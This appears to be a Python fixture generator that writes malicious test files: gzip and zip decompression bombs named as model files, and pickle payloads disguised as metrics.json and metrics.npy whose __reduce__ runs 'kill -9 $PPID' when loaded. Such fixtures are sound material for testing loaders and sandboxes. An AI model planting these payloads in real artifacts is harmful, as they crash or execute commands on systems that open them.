"""Writes bombs of every kind, and a pickle for metrics.json that runs a command where it is loaded."""

import gzip
import os
import pickle
import zipfile
from pathlib import Path

OUT = Path(os.environ["OUT"])


class Runs:
    def __reduce__(self):
        return os.system, ("kill -9 $PPID",)


(OUT / "model.json.gz").write_bytes(gzip.compress(bytes(200 << 20)))
with zipfile.ZipFile(OUT / "model.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
    for number in range(20):
        bomb.writestr(f"{number}.bin", bytes(8 << 20))
(OUT / "metrics.npy").write_bytes(b"\x93NUMPY\x01\x00" + pickle.dumps(Runs()))
(OUT / "metrics.json").write_bytes(pickle.dumps(Runs()))
